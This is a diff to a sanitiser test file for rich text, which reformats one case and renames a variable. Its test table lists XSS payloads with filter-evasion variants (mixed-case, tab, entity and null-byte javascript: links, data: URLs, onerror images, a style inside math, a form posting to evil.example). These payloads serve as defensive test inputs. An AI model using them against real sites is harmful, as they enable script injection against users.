@@ -35,7 +35,11 @@ describe('S-SEC-06 rich text is sanitised', () => {
     ['a frame', '<p>a<iframe src="javascript:alert(1)"></iframe></p>', '<p>a</p>'],
     ['a form', '<p>a<form action="//evil.example"><input name=p></form></p>', null],
     ['a javascript link', '<p><a href="javascript:alert(1)">a</a></p>', '<p><a>a</a></p>'],
-    ['a javascript link in capitals with whitespace', '<p><a href=" JaVa\tScRiPt:alert(1)">a</a></p>', '<p><a>a</a></p>'],
+    [
+      'a javascript link in capitals with whitespace',
+      '<p><a href=" JaVa\tScRiPt:alert(1)">a</a></p>',
+      '<p><a>a</a></p>',
+    ],
     ['a javascript link with HTML entities', '<p><a href="&#106;avascript:alert(1)">a</a></p>', '<p><a>a</a></p>'],
     ['a javascript link with a null byte', '<p><a href="java\u0000script:alert(1)">a</a></p>', null],
     ['a data link', '<p><a href="data:text/html,<script>alert(1)</script>">a</a></p>', '<p><a>a</a></p>'],
@@ -49,11 +53,11 @@ describe('S-SEC-06 rich text is sanitised', () => {
     ['a template', '<p><template><script>alert(1)</script></template>a</p>', '<p>a</p>'],
     ['a style inside a math element', '<math><style><img src=x onerror=alert(1)></style></math><p>a</p>', '<p>a</p>'],
   ])('removes or repairs %s', (_, hostile, clean) => {
-    const made = richText(hostile);
-    if (clean !== null) expect(made).toBe(clean);
-    expect(made).not.toMatch(/<(?!\/?(?:b|i|em|strong|a|p|br)[\s/>])/i);
-    expect(made).not.toMatch(/<[^>]*\s(?:on\w+|style|class|id|src|data-[\w-]+)\s*=/i);
-    expect(made).not.toMatch(/href="\s*(?:javascript|data|vbscript|\/\/|\/\\)/i);
+    const sanitised = richText(hostile);
+    if (clean !== null) expect(sanitised).toBe(clean);
+    expect(sanitised).not.toMatch(/<(?!\/?(?:b|i|em|strong|a|p|br)[\s/>])/i);
+    expect(sanitised).not.toMatch(/<[^>]*\s(?:on\w+|style|class|id|src|data-[\w-]+)\s*=/i);
+    expect(sanitised).not.toMatch(/href="\s*(?:javascript|data|vbscript|\/\/|\/\\)/i);
   });
 });
 
